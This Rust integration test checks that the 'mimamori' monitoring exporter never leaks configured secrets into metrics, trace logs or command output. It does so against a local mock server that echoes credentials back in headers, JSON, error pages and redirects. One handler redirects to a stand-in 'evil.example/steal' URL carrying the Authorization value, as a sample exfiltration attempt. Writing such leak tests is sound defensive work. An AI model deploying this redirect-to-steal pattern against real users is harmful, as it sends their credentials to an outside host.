//! Secrets never leak: the real binary probes a server that echoes everything
//! it receives (Authorization header, body) back in headers, JSON, error pages
//! and redirect targets, with trace logging on; then `/metrics`, the logs and
//! the output of `check` and `probe` are searched for the secrets, whole,
//! encoded, or cut short.

use std::convert::Infallible;
use std::net::{SocketAddr, TcpStream};
use std::process::{Command, Stdio};
use std::time::Duration;

use bytes::Bytes;
use http::{Request, Response, StatusCode};
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use hyper_util::rt::TokioIo;

use crate::common::prometheus::free_port;
use crate::common::{http, wait_until};

/// A password with characters that change under form, percent and JSON encoding.
const PASSWORD: &str = "Pw:Zq8#x/+&=ü kL9\"";
/// An API key sent in a header (headers are ASCII).
const API_KEY: &str = "ak \"Vn4$R/+=Tq7\\Wd";
/// A key put in the URL (already URL-safe).
const URL_KEY: &str = "uk-M3rT9vXw2QpZ";
/// The token the login answers with; captured with `secret: true`.
const TOKEN: &str = "tok_7Hq2+V/wX\"y=9";

fn encodings(s: &str) -> Vec<String> {
    let form: String = form_urlencoded::byte_serialize(s.as_bytes()).collect();
    let json = serde_json::to_string(s).unwrap();
    vec![
        s.to_string(),
        form.clone(),
        form.replace('+', "%20"),
        json.trim_matches('"').to_string(),
    ]
}

/// Fails if `text` holds any secret, in any encoding, or 6 consecutive
/// characters of one (what is left when a value is cut at a length limit).
fn assert_no_secret(what: &str, text: &str) {
    for secret in [PASSWORD, API_KEY, URL_KEY, TOKEN] {
        for enc in encodings(secret) {
            assert!(!text.contains(&enc), "{what} contains {enc:?}:\n{text}");
        }
        let chars: Vec<char> = secret.chars().collect();
        for w in chars.windows(6) {
            let piece: String = w.iter().collect();
            assert!(
                !text.contains(&piece),
                "{what} contains {piece:?} (part of a secret):\n{text}"
            );
        }
    }
}

/// Echoes what it receives wherever a response can carry text.
async fn hostile(req: Request<Incoming>) -> Result<Response<Full<Bytes>>, Infallible> {
    let path = req.uri().path().to_string();
    let query = req.uri().query().unwrap_or("").to_string();
    let auth = req
        .headers()
        .get("authorization")
        .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
        .unwrap_or_default();
    let body = req
        .into_body()
        .collect()
        .await
        .map(|b| String::from_utf8_lossy(&b.to_bytes()).into_owned())
        .unwrap_or_default();
    let pct = |s: &str| form_urlencoded::byte_serialize(s.as_bytes()).collect::<String>();
    let r = Response::builder();
    let r = match path.as_str() {
        "/login" => r
            .header("content-type", "application/json")
            .header("x-you-sent", &body)
            .body(serde_json::json!({"token": TOKEN, "you_sent": body}).to_string()),
        // A long request id first, so the echo crosses a 100-character cut.
        "/echo-header" => r
            .header(
                "x-echo",
                format!("request-id={}; authorization={auth}", "r".repeat(59)),
            )
            .body(format!("you sent {auth}")),
        "/echo-json" => r
            .header("content-type", "application/json")
            .body(serde_json::json!({"auth": auth, "body": body}).to_string()),
        // 307 keeps the method and body, so the echo goes round until the limit.
        "/redirect-echo" => r
            .status(StatusCode::TEMPORARY_REDIRECT)
            .header(
                "location",
                format!("/redirect-echo?you_sent={body}&auth={}", pct(&auth)),
            )
            .body(String::new()),
        "/redirect-pct" => r
            .status(StatusCode::FOUND)
            .header(
                "location",
                format!("/redirect-pct?auth={}", pct(&auth).replace('+', "%20")),
            )
            .body(String::new()),
        "/foreign" => r
            .status(StatusCode::FOUND)
            .header(
                "location",
                format!("http://evil.example/steal?auth={}&q={query}", pct(&auth)),
            )
            .body(String::new()),
        _ => r
            .status(StatusCode::INTERNAL_SERVER_ERROR)
            .header("x-echo-query", &query)
            .header("x-echo-auth", &auth)
            .body(format!(
                "error: you sent {path}?{query} auth={auth} body={body}"
            )),
    };
    Ok(r.unwrap().map(|b| Full::new(Bytes::from(b))))
}

fn start_hostile() -> SocketAddr {
    crate::common::server::serve("127.0.0.1:0", |s| async move {
        let _ = hyper::server::conn::http1::Builder::new()
            .serve_connection(TokioIo::new(s), hyper::service::service_fn(hostile))
            .await;
    })
}

fn config(base: &str) -> String {
    format!(
        r#"global: {{location: leak-test, interval: 1s, timeout: 1s, step_timeout: 1s, max_redirects: 3}}
secrets:
  pw: {{env: MIMAMORI_LEAK_PW}}
  api_key: {{env: MIMAMORI_LEAK_API_KEY}}
  url_key: {{env: MIMAMORI_LEAK_URL_KEY}}
services:
  - name: leaky
    display_name: {{ja: 漏洩試験, en: Leak test}}
    transactions:
      - name: login-then-echo
        variables: {{base: "{base}"}}
        steps:
          - name: login
            method: POST
            url: ${{base}}/login
            body: {{form: {{user: probe, password: "${{secret:pw}}"}}}}
            capture:
              token: {{json: /token, secret: true}}
          - name: echo-token
            url: ${{base}}/echo-header
            headers: {{authorization: "Bearer ${{token}}"}}
            expect:
              headers: [{{name: x-echo, equals: nothing}}]
      - name: header-echo
        steps:
          - name: echo
            url: {base}/echo-header
            headers: {{authorization: "Key ${{secret:api_key}}"}}
            expect:
              headers: [{{name: x-echo, contains: nothing}}]
      - name: json-echo
        steps:
          - name: echo
            method: POST
            url: {base}/echo-json
            headers: {{authorization: "Key ${{secret:api_key}}"}}
            body: {{json: {{password: "${{secret:pw}}"}}}}
            expect:
              json: [{{pointer: /auth, equals: nothing}}]
      - name: form-redirect
        steps:
          - name: loop
            method: POST
            url: {base}/redirect-echo
            headers: {{authorization: "Key ${{secret:api_key}}"}}
            body: {{form: {{password: "${{secret:pw}}"}}}}
      - name: pct-redirect
        steps:
          - name: loop
            url: {base}/redirect-pct
            headers: {{authorization: "Key ${{secret:api_key}}"}}
      - name: foreign-redirect
        steps:
          - name: away
            url: {base}/foreign?key=${{secret:url_key}}
            headers: {{authorization: "Key ${{secret:api_key}}"}}
      - name: error-page
        steps:
          - name: fail
            method: POST
            url: ${{env:MIMAMORI_LEAK_BASE}}/status?key=${{env:MIMAMORI_LEAK_URL_KEY}}
            headers: {{authorization: "Key ${{secret:api_key}}"}}
            body: {{raw: "password=${{secret:pw}}"}}
"#
    )
}

fn mimamori(args: &[&str], base: &str) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_mimamori"));
    c.args(args)
        .env("MIMAMORI_LEAK_PW", PASSWORD)
        .env("MIMAMORI_LEAK_API_KEY", API_KEY)
        .env("MIMAMORI_LEAK_URL_KEY", URL_KEY)
        .env("MIMAMORI_LEAK_BASE", base)
        .env_remove("RUST_LOG");
    c
}

#[test]
fn secrets_never_reach_metrics_logs_or_output() {
    let hostile = start_hostile();
    let base = format!("http://{hostile}");
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("leak.yaml");
    std::fs::write(&cfg, config(&base)).unwrap();
    let cfg = cfg.to_str().unwrap();

    // check: what would run, with the secrets' own variables expanded nowhere.
    let out = mimamori(&["check", "--config", cfg], &base)
        .output()
        .unwrap();
    let check =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{check}");
    assert!(check.contains("transaction error-page"), "{check}");
    assert_no_secret("check output", &check);

    // serve, logging everything, until every transaction has failed at least twice.
    let addr = format!("127.0.0.1:{}", free_port());
    let log = dir.path().join("serve.log");
    // Killed when dropped, also when an assertion fails.
    let mut child = crate::common::stack::Proc(
        mimamori(
            &[
                "--log.level",
                "trace",
                "serve",
                "--config",
                cfg,
                "--web.listen-address",
                &addr,
            ],
            &base,
        )
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap(),
    );
    let transactions = [
        "login-then-echo",
        "header-echo",
        "json-echo",
        "form-redirect",
        "pct-redirect",
        "foreign-redirect",
        "error-page",
    ];
    wait_until(Duration::from_secs(30), "the exporter to listen", || {
        TcpStream::connect(&addr).is_ok()
    });
    let metrics = wait_until(
        Duration::from_secs(30),
        "every transaction to fail twice",
        || {
            let (status, body) = http(&addr, "GET", "/metrics");
            assert_eq!(status, 200);
            // Failed runs of the transaction, over every reason.
            let failed_twice = transactions.iter().all(|t| {
                body.lines()
                    .filter(|l| {
                        l.starts_with("mimamori_probe_failures_total{")
                            && l.contains(&format!("transaction=\"{t}\""))
                    })
                    .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
                    .sum::<f64>()
                    >= 2.0
            });
            if failed_twice {
                Ok(body)
            } else {
                Err(body)
            }
        },
    );
    child.kill();
    let logs = std::fs::read_to_string(&log).unwrap();

    // The failures happened for the intended reasons, and were logged in detail.
    for (t, reason) in [
        ("login-then-echo", "assertion"),
        ("header-echo", "assertion"),
        ("json-echo", "assertion"),
        ("form-redirect", "redirect"),
        ("pct-redirect", "redirect"),
        ("foreign-redirect", "redirect"),
        ("error-page", "status"),
    ] {
        let line = metrics
            .lines()
            .find(|l| {
                l.starts_with("mimamori_probe_failures_total{")
                    && l.contains(&format!("transaction=\"{t}\""))
                    && l.contains(&format!("reason=\"{reason}\""))
            })
            .unwrap_or_else(|| panic!("no {reason} counter for {t}"));
        assert!(
            !line.ends_with(" 0"),
            "{t} did not fail with {reason}: {line}"
        );
    }
    assert!(logs.contains("DEBUG"), "debug logging was on:\n{logs}");
    for detail in [
        "header x-echo is '",
        "JSON /auth is ",
        "more than 3 redirects (last to /redirect-echo?",
        "more than 3 redirects (last to /redirect-pct?auth=",
        "redirect to another host evil.example",
        "status 500",
    ] {
        assert!(logs.contains(detail), "no {detail:?} in the logs:\n{logs}");
    }
    assert!(logs.contains("****"), "masked values are logged as ****");
    assert_no_secret("/metrics", &metrics);
    assert_no_secret("serve logs", &logs);

    // probe: credentials in the URL are not printed either, in text or JSON.
    let url = format!(
        "http://probe:{}@{hostile}/echo-header",
        URL_KEY.replace('-', "")
    );
    for json in [false, true] {
        let mut args = vec!["--log.level", "trace", "probe", url.as_str()];
        if json {
            args.push("--json");
        }
        let out = mimamori(&args, &base).output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned()
            + &String::from_utf8_lossy(&out.stderr);
        assert!(
            text.contains("echo-header") || text.contains("get"),
            "{text}"
        );
        assert!(!text.contains(&URL_KEY.replace('-', "")), "{text}");
    }
}
